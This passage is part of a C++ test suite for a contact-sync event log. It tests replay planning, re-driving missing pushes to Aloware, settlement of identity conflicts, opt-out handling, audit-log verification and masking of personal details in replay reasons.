    ctx.targets["aloware"] = {"first_name", "email"};
    return ctx;
  };
  ReplayPlan plan;
  ASSERT_TRUE(PlanReplay(b.log, setup.options, &plan).ok());
  ASSERT_EQ(plan.diffs.size(), 2u) << "one per fact";
  for (uint32_t i = 0; i < 2; ++i) {
    EXPECT_EQ(plan.diffs[i].kind, "missing");
    EXPECT_EQ(plan.diffs[i].now.op, "upsert");
    EXPECT_EQ(plan.diffs[i].now.fact_index, i);
  }
  auto asked = RedriveMissing(plan, "r");
  ASSERT_EQ(asked.size(), 1u);
  const ReplayRequest request = asked.begin()->second;
  ASSERT_EQ(request.items.size(), 2u);
  ReplayRequest rebuilt;
  ASSERT_TRUE(RebuildRedriveItems(b.log, "default", request, setup.options, &rebuilt).ok());
  ASSERT_EQ(rebuilt.items.size(), 2u);
  EXPECT_EQ(rebuilt.items[0].push.fields.at("first_name"), "Ann");
  EXPECT_EQ(rebuilt.items[1].push.fields.at("first_name"), "Annie");

  ReplayRequest nameless = request, none;
  nameless.items[1].push.push_id.clear();
  Status st = RebuildRedriveItems(b.log, "default", nameless, setup.options, &none);
  EXPECT_TRUE(st.IsInvalidArgument());
  EXPECT_NE(st.message().find("name it by its push_id"), std::string::npos) << st.message();
  ReplayRequest twice = request, refused;
  twice.items[1] = twice.items[0];
  st = RebuildRedriveItems(b.log, "default", twice, setup.options, &refused);
  EXPECT_TRUE(st.IsInvalidArgument());
  EXPECT_NE(st.message().find("names the same missing push"), std::string::npos) << st.message();
}

// A push missing then, and a replay that re-drove another push of the same
// webhook, system and op (another message, or another contact of a
// batched webhook): this one is still missing, not counted re-driven; the
// replay that names it is.
TEST(Replay, ARedriveHidesOnlyThePushItNamed) {
  Built b;
  EventId hook;
  const std::string contact = HelloMadeAContact(&b, &hook);  // and no push to Aloware then
  AlowareReplay setup;
  ReplayPlan plan;
  ASSERT_TRUE(PlanReplay(b.log, setup.options, &plan).ok());
  ASSERT_EQ(plan.diffs.size(), 1u);
  ASSERT_EQ(plan.diffs[0].kind, "missing");
  const DomainEvent missing = plan.diffs[0].now;

  auto redrive = [&](const std::string& contact_id, const std::string& message_key) {
    ReplayRequest r;
    r.reason = "support";
    RedriveItem item{contact_id, hook.ToString(), missing, 0};
    item.push.message_key = message_key;
    r.items.push_back(item);
    AppendOutcome out;
    ASSERT_TRUE(b.log.Append(ReplayRequestDraft("default", r), &out).ok());
  };
  redrive(contact, "verity:another-message");
  redrive("another-contact", missing.message_key);
  ASSERT_TRUE(PlanReplay(b.log, setup.options, &plan).ok());
  ASSERT_EQ(plan.diffs.size(), 1u) << "still missing";
  EXPECT_EQ(plan.diffs[0].kind, "missing");
  EXPECT_EQ(plan.redriven, 0u);
  // What the console rebuilds from a posted item is the push it names:
  // one of another message is refused, not rebuilt as this one (two posted
  // would have re-driven one of them twice).
  ReplayRequest posted;
  RedriveItem other{contact, hook.ToString(), missing, 0};
  other.push.message_key = "verity:another-message";
  posted.items.push_back(other);
  ReplayRequest rebuilt;
  EXPECT_TRUE(
      RebuildRedriveItems(b.log, "default", posted, setup.options, &rebuilt).IsInvalidArgument());
  posted.items[0].push.message_key = missing.message_key;
  ASSERT_TRUE(RebuildRedriveItems(b.log, "default", posted, setup.options, &rebuilt).ok());
  ASSERT_EQ(rebuilt.items.size(), 1u);

  redrive(contact, missing.message_key);
  ASSERT_TRUE(PlanReplay(b.log, setup.options, &plan).ok());
  EXPECT_TRUE(plan.diffs.empty());
  EXPECT_EQ(plan.redriven, 1u);
}

// A Verity text `body` from `from` (message `id`), a millisecond on, that
// the router recorded as `recorded` under its key for the fact instead of
// routing it: an identity.conflict between Ann (by email) and Bob (by
// phone) unless said. The webhook as read back, and the record's seq.
std::pair<Event, uint64_t> UnroutedVerityText(Built* b, const std::string& id,
                                              const std::string& from, const std::string& body,
                                              std::string_view recorded = ev::kIdentityConflict) {
  b->clock.Advance(1000);
  WebhookReceived w;
  w.system = "verity";
  w.provider_event_id = "message.received:" + id;
  w.body = R"({"eventType":"message.received","messageId":")" + id +
           R"(","conversationId":"chat_1","direction":"inbound","from":")" + from +
           R"(","to":"+12055550100","body":")" + body +
           R"(","timestamp":"2026-11-20T15:00:00.000Z"})";
  AppendOutcome hook;
  EXPECT_TRUE(b->log.Append(WebhookDraft("default", w), &hook).ok());
  DomainEvent c;
  c.type = std::string(recorded);
  c.system = "verity";
  c.candidates = {{"ann", "email"}, {"bob", "phone"}};
  c.fields = {{"phone", from}};
  c.webhook_seq = hook.seq;
  EventDraft d = ToDraft(c, "default", SourceStream("verity"), hook.id, hook.id);
  d.idempotency_system = kDecisionKeySystem;
  d.idempotency_key = SourceDecisionKey(hook.seq, 0);
  AppendOutcome conflict;
  EXPECT_TRUE(b->log.Append(std::move(d), &conflict).ok());
  std::vector<Event> read;
  EXPECT_TRUE(b->log.Read(hook.seq, 1, &read).ok());
  return std::make_pair(read.at(0), conflict.seq);
}

// A webhook whose identity conflict was settled is compared with what the
// settlement made its contact decide, however long after the replay's
// window the settlement came; one whose conflict is open or was dismissed,
// or that the router rejected or quarantined, was applied to no contact,
// and a replay leaves it alone too.
TEST(Replay, ASettledConflictIsComparedWithWhatItsSettlementCaused) {
  Built b;
  const EventId a0 = b.Webhook();
  DomainEvent ann = Ev(ev::kContactCreated, "ghl");
  ann.contact_id = "ann";
  ann.fields["email"] = "ann@example.com";
  b.Add(ann, a0);
  AlowareReplay setup;
  ReplayOptions& ro = setup.options;
  // Texts from numbers the router could not tell apart.
  auto text = [&](const std::string& id, const std::string& from,
                  std::string_view recorded = ev::kIdentityConflict) {
    return UnroutedVerityText(&b, id, from, "hello", recorded);
  };
  auto settle = [&](uint64_t conflict_seq, const std::string& contact) {
    std::vector<Event> read;
    EXPECT_TRUE(b.log.Read(conflict_seq, 1, &read).ok());
    EventDraft d;
    EXPECT_TRUE(
        PlanSettlement(read.at(0), "default", {conflict_seq, contact, contact.empty(), ""}, &d)
            .ok());
    AppendOutcome o;
    EXPECT_TRUE(b.log.Append(std::move(d), &o).ok());
    return o.id;
  };
  const auto [settled_hook, settled_conflict] = text("m1", "+12055550142");
  const auto [dismissed_hook, dismissed_conflict] = text("m2", "+12055550143");
  text("m3", "+12055550144");                           // stays open
  text("m4", "+12055550145", ev::kFactRejected);        // refused by the router
  text("m5", "+12055550146", ev::kWebhookQuarantined);  // mapped now, not then
  const int64_t window_end = b.clock.NowMicros() + 1;

  // A day later the first is settled to Ann, who decides the text then
  // (as her actor would: against her state, caused by the settlement); the
  // second is dismissed.
  b.clock.Advance(kDay);
  const EventId settlement = settle(settled_conflict, "ann");
  settle(dismissed_conflict, "");
  std::vector<ContactFact> facts;
  WebhookReceived w;
  ASSERT_TRUE(DecodeWebhookReceived(settled_hook.schema_version, settled_hook.payload, &w).ok());
  const InboundMapper* m = FindMapperFor(settled_hook.type, w.system);
  ASSERT_NE(m, nullptr);
  ASSERT_TRUE((*m)(w, setup.mapper, &facts).ok());
  ASSERT_EQ(facts.size(), 1u);
  StampFact(&facts[0], settled_hook);
  ContactState state;
  state.contact_id = "ann";
  Apply(&state, ann, 2, kFriday);
  SyncContext ctx = ro.context("default");
  ctx.now_us = facts[0].recorded_at_us;
  size_t pushes = 0;
  for (const auto& d : Decide(state, facts[0], ctx)) {
    pushes += d.type == ev::kPushRequested;
    AppendOutcome o;
    ASSERT_TRUE(
        b.log.Append(ToDraft(d, "default", ContactStream("ann"), settlement, settled_hook.id), &o)
            .ok());
  }
  ASSERT_GT(pushes, 0u) << "the text gives Ann a phone to push";

  for (int64_t to : {window_end, int64_t{0}}) {  // the settlement after the window, then inside
    ro.to_us = to;
    ReplayPlan plan;
    ASSERT_TRUE(PlanReplay(b.log, ro, &plan).ok());
    EXPECT_EQ(plan.webhooks, 5u);
    EXPECT_TRUE(plan.diffs.empty()) << plan.diffs[0].kind << " " << plan.diffs[0].now.system;
    EXPECT_EQ(plan.same, pushes);
    EXPECT_EQ(plan.held_back, 4u) << "the dismissed, open, rejected and quarantined texts";
    EXPECT_EQ(plan.unresolved, 0u);
  }
}

// An identity conflict's opt-outs were decided by the candidate their
// address reaches when it was recorded (ConflictOptOuts): a replay decides
// them there too, whatever became of the conflict. On a log written before
// they were (the conflict only), they show as missing.
TEST(Replay, AConflictsOptOutsAreComparedOnTheCandidateTheyReach) {
  Built b;
  const EventId created = b.Webhook();
  DomainEvent bob = Ev(ev::kContactCreated, "aloware");
  bob.contact_id = "bob";
  bob.fields["phone"] = "+12055550142";
  b.Add(bob, created);
  AlowareReplay setup;
  const auto [hook, recorded] = UnroutedVerityText(&b, "m1", "+12055550142", "STOP");
  ASSERT_GT(recorded, hook.seq);

  ReplayPlan before;
  ASSERT_TRUE(PlanReplay(b.log, setup.options, &before).ok());
  EXPECT_EQ(before.held_back, 1u) << "the fact itself waits for a settlement";
  ASSERT_FALSE(before.diffs.empty()) << "the opt-out the engine did not decide then";
  for (const auto& diff : before.diffs) {
    EXPECT_EQ(diff.kind, "missing");
    EXPECT_EQ(diff.contact.contact_id, "bob");
  }

  // Bob decides it, as his actor does.
  WebhookReceived w;
  ASSERT_TRUE(DecodeWebhookReceived(hook.schema_version, hook.payload, &w).ok());
  std::vector<ContactFact> facts;
  const InboundMapper* m = FindMapperFor(hook.type, w.system);
  ASSERT_NE(m, nullptr);
  ASSERT_TRUE((*m)(w, setup.mapper, &facts).ok());
  ASSERT_EQ(facts.size(), 1u);
  StampFact(&facts[0], hook);
  auto opt_outs = ConflictOptOuts(facts[0], {{"ann", "email"}, {"bob", "phone"}});
  ASSERT_EQ(opt_outs.size(), 1u);
  ASSERT_EQ(opt_outs[0].first, "bob");
  ContactState state;
  state.contact_id = "bob";
  Apply(&state, bob, 2, kFriday);
  SyncContext ctx = setup.options.context("default");
  ctx.now_us = facts[0].recorded_at_us;
  for (const auto& decided : Decide(state, opt_outs[0].second, ctx)) {
    AppendOutcome o;
    ASSERT_TRUE(
        b.log.Append(ToDraft(decided, "default", ContactStream("bob"), hook.id, hook.id), &o).ok());
    if (decided.type != ev::kPushRequested) continue;
    DomainEvent refused = decided;  // so the settled STOP asks again
    refused.type = std::string(ev::kPushAttempted);
    refused.outcome = "refused";
    ASSERT_TRUE(
        b.log.Append(ToDraft(refused, "default", ContactStream("bob"), o.id, hook.id), &o).ok());
  }
  ReplayPlan after;
  ASSERT_TRUE(PlanReplay(b.log, setup.options, &after).ok());
  EXPECT_TRUE(after.diffs.empty()) << after.diffs[0].kind << " " << after.diffs[0].now.system;
  EXPECT_EQ(after.same, before.diffs.size());

  // Settled to Bob a day later: he decides the whole text then, after his
  // opt-out; each is compared with what it caused, neither taken for the
  // other's.
  b.clock.Advance(kDay);
  std::vector<Event> conflict;
  ASSERT_TRUE(b.log.Read(recorded, 1, &conflict).ok());
  EventDraft d;
  ASSERT_TRUE(PlanSettlement(conflict.at(0), "default", {recorded, "bob", false, ""}, &d).ok());
  AppendOutcome settled;
  ASSERT_TRUE(b.log.Append(std::move(d), &settled).ok());
  std::vector<Event> stream;
  ASSERT_TRUE(b.log.ReadWholeStream("default", ContactStream("bob"), &stream).ok());
  ContactState now;
  now.contact_id = "bob";
  for (const auto& e : stream) {
    DomainEvent x;
    if (AsDomainEvent(e, &x)) Apply(&now, x, e.seq, e.recorded_at_us);
  }
  ContactFact whole = facts[0];
  whole.webhook_seq = settled.seq;
  ctx.now_us = b.clock.NowMicros();
  size_t settled_pushes = 0;
  for (const auto& decided : Decide(now, whole, ctx)) {
    settled_pushes += decided.type == ev::kPushRequested;
    AppendOutcome o;
    ASSERT_TRUE(
        b.log.Append(ToDraft(decided, "default", ContactStream("bob"), settled.id, hook.id), &o)
            .ok());
  }
  ReplayPlan both;
  ASSERT_TRUE(PlanReplay(b.log, setup.options, &both).ok());
  EXPECT_TRUE(both.diffs.empty()) << both.diffs[0].kind << " " << both.diffs[0].now.system << " "
                                  << both.diffs[0].then.system;
  ASSERT_GT(settled_pushes, 0u) << "the repeated STOP asks Aloware again";
  EXPECT_EQ(both.same, before.diffs.size() + settled_pushes);
}

TEST(Replay, ExecuteReachesTheAdminListenerWhenThereIsOne) {
  ServerSettings s;
  s.listen_host = "0.0.0.0";
  s.listen_port = 8080;
  EXPECT_EQ(AdminBaseUrl(s), "http://127.0.0.1:8080");
  s.admin_listen_host = "127.0.0.1";
  s.admin_listen_port = 8081;
  EXPECT_EQ(AdminBaseUrl(s), "http://127.0.0.1:8081");
  s.admin_listen_host = "::1";
  EXPECT_EQ(AdminBaseUrl(s), "http://[::1]:8081");
  s.admin_listen_host = "::";
  EXPECT_EQ(AdminBaseUrl(s), "http://[::1]:8081");
}

TEST(Verify, SummaryRechecksAgainstTheSameLog) {
  Built b;
  b.Webhook();
  b.Webhook();
  std::ostringstream first, err;
  ASSERT_EQ(RunAuditVerify(b.log, "", true, first, err), 0);
  std::string kept = first.str();
  b.Webhook();  // the log grows
  std::ostringstream again;
  EXPECT_EQ(RunAuditVerify(b.log, kept, true, again, err), 0) << again.str();
  std::string forged = kept;
  forged.replace(forged.find("\"head_hash\":\"") + 13, 4, "0000");
  std::ostringstream bad;
  EXPECT_EQ(RunAuditVerify(b.log, forged, true, bad, err), 1);
  EXPECT_NE(bad.str().find("\"matches_summary\":false"), std::string::npos);
}

// An operator's reason for a replay may name the person (a phone, an
// email): told only to who may see them, as a settlement's note.
TEST(EventStoryTest, AReplaysReasonIsToldOnlyWhenRevealed) {
  ReplayRequest r;
  r.reason = "+1 205 555 0142 says she never got the reminder";
  r.items.resize(1);
  r.items[0].contact_id = "c1";
  r.items[0].push.type = std::string(ev::kPushRequested);
  r.items[0].push.system = "aloware";
  r.items[0].push.op = "upsert";
  r.items[0].push.push_id = "c1:aloware:1";
  Event e;
  e.type = std::string(kReplayRequestedType);
  e.payload = EncodeReplayRequest(r);
  const std::string masked = TellEvent(e, /*reveal=*/false).what;
  EXPECT_EQ(masked, "replay requested: 1 push(es) to re-drive");
  EXPECT_NE(TellEvent(e, /*reveal=*/true).what.find(r.reason), std::string::npos);
}

}  // namespace
}  // namespace dfm
